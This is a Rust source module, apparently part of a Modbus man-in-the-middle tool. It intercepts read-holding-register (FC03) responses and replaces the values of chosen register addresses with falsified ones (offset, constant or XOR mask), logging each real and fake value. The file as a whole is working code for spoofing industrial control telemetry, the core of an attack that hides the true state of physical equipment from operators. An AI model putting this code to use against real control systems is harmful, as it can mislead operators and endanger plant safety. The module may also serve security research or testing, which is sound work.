//! Register spoofing policy
//!
//! Decides which holding register addresses get falsified and how, and
//! rewrites FC03 responses accordingly. The policy itself is immutable and
//! shared by every connection without locking.

use bytes::BytesMut;
use mitm_protocols::modbus::{pdu, FC_READ_HOLDING_REGISTERS};
use mitm_protocols::Frame;
use serde::{Deserialize, Serialize};
use tracing::{debug, warn};

use errors::{MitmError, MitmResult};

use crate::tracker::PendingRequest;

/// Inclusive holding register address range
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct AddressRange {
    pub start: u16,
    pub end: u16,
}

impl AddressRange {
    pub fn new(start: u16, end: u16) -> Self {
        Self { start, end }
    }

    #[inline]
    pub fn contains(&self, addr: u16) -> bool {
        (self.start..=self.end).contains(&addr)
    }
}

/// Value substitution applied to eligible registers
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum ValueTransform {
    /// `(value + delta) mod 65536`
    Offset { delta: i32 },
    /// Always report `value`
    Constant { value: u16 },
    /// `value ^ mask`
    BitwiseXor { mask: u16 },
}

impl Default for ValueTransform {
    fn default() -> Self {
        ValueTransform::Offset { delta: 1000 }
    }
}

impl ValueTransform {
    pub fn apply(&self, real: u16) -> u16 {
        match *self {
            ValueTransform::Offset { delta } => {
                (i64::from(real) + i64::from(delta)).rem_euclid(65536) as u16
            },
            ValueTransform::Constant { value } => value,
            ValueTransform::BitwiseXor { mask } => real ^ mask,
        }
    }
}

/// Which registers to falsify and how
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(default)]
pub struct SpoofPolicy {
    /// A disabled policy accepts no address
    pub enabled: bool,
    pub ranges: Vec<AddressRange>,
    pub transform: ValueTransform,
}

impl Default for SpoofPolicy {
    /// Addresses 0-9, `+1000 mod 65536`
    fn default() -> Self {
        Self {
            enabled: true,
            ranges: vec![AddressRange::new(0, 9)],
            transform: ValueTransform::default(),
        }
    }
}

impl SpoofPolicy {
    pub fn new(ranges: Vec<AddressRange>, transform: ValueTransform) -> Self {
        Self {
            enabled: true,
            ranges,
            transform,
        }
    }

    /// Policy that never rewrites anything
    pub fn disabled() -> Self {
        Self {
            enabled: false,
            ..Self::default()
        }
    }

    pub fn is_eligible(&self, addr: u16) -> bool {
        self.enabled && self.ranges.iter().any(|range| range.contains(addr))
    }

    pub fn transform(&self, real: u16) -> u16 {
        self.transform.apply(real)
    }

    pub fn validate(&self) -> MitmResult<()> {
        if let Some(range) = self.ranges.iter().find(|r| r.start > r.end) {
            return Err(MitmError::invalid_config(
                "spoof.ranges",
                format!("start {} is after end {}", range.start, range.end),
            ));
        }
        Ok(())
    }

    /// Rewrite an FC03 response to `request`.
    ///
    /// Returns the frame to forward and the number of registers replaced.
    /// Anything that is not a well-formed FC03 response (exceptions, other
    /// function codes, byte count disagreeing with the data or splitting a
    /// register) comes back unchanged with a count of zero.
    pub fn rewrite_response(&self, request: &PendingRequest, response: Frame) -> (Frame, usize) {
        let fc = response.function_code();
        if request.function_code != FC_READ_HOLDING_REGISTERS
            || fc != Some(request.function_code)
        {
            debug!(
                tid = response.transaction_id,
                fc = ?fc,
                function = fc.map_or("none", pdu::function_code_description),
                "Response not eligible for spoofing, passing through"
            );
            return (response, 0);
        }

        match self.spoof_registers(request, &response) {
            Ok(Some((frame, count))) => (frame, count),
            Ok(None) => (response, 0),
            Err(e) => {
                warn!(
                    tid = response.transaction_id,
                    "Malformed read response, passing through: {}", e
                );
                (response, 0)
            },
        }
    }

    fn spoof_registers(
        &self,
        request: &PendingRequest,
        response: &Frame,
    ) -> MitmResult<Option<(Frame, usize)>> {
        let block = pdu::register_block(&response.pdu)?;
        let mut rewritten = BytesMut::from(&response.pdu[..]);
        let mut spoofed = 0;

        for (index, pair) in rewritten[block].chunks_exact_mut(2).enumerate() {
            let Ok(addr) = u16::try_from(usize::from(request.start_address) + index) else {
                break;
            };
            if !self.is_eligible(addr) {
                continue;
            }

            let real = u16::from_be_bytes([pair[0], pair[1]]);
            let fake = self.transform(real);
            pair.copy_from_slice(&fake.to_be_bytes());
            spoofed += 1;
            debug!(
                tid = response.transaction_id,
                addr, real, fake, "Spoofed holding register"
            );
        }

        if spoofed == 0 {
            return Ok(None);
        }
        Ok(Some((response.with_pdu(rewritten.freeze()), spoofed)))
    }
}
